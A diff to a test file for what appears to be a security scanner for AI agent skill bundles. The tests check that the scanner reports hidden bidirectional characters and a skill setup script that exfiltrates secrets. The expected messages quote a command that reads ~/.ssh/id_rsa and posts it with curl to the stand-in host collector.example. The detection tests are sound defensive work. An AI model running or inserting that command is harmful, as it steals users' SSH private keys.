@@ -73,8 +73,9 @@ def test_messages_show_what_is_hidden(run: Run, tmp_path: Path) -> None:
         "invisible character(s) (bidirectional control): U+202E RIGHT-TO-LEFT OVERRIDE"
     ) in result.stdout
     assert (
-        ".dsh/skills/bundle-script/SKILL.md:1:1: SD1013 error in `scripts/setup.sh` line 2: "
-        "reads ~/.ssh/id_rsa and sends it out: `KEY=$(cat ~/.ssh/id_rsa) ... curl -d`"
+        ".dsh/skills/bundle-script/SKILL.md:1:1: SD1013 error in `scripts/setup.sh` line 4: "
+        "reads ~/.ssh/id_rsa (line 2) and sends it to `collector.example`: "
+        '`curl -d "k=$KEY" https://collector.example/up`'
     ) in result.stdout
 
 
@@ -101,7 +102,7 @@ def test_sarif_carries_the_family_with_related_locations(run: Run, tmp_path: Pat
     assert stolen["level"] == "error"
     related = stolen["relatedLocations"][0]["physicalLocation"]
     assert related["artifactLocation"]["uri"] == ".dsh/skills/bundle-script/scripts/setup.sh"
-    assert related["region"]["startLine"] == 2
+    assert related["region"]["startLine"] == 4  # where it leaves; the message names line 2
     rules = {r["id"] for r in sarif["runs"][0]["tool"]["driver"]["rules"]}
     assert {"SD1013", "SD1015"} <= rules
 
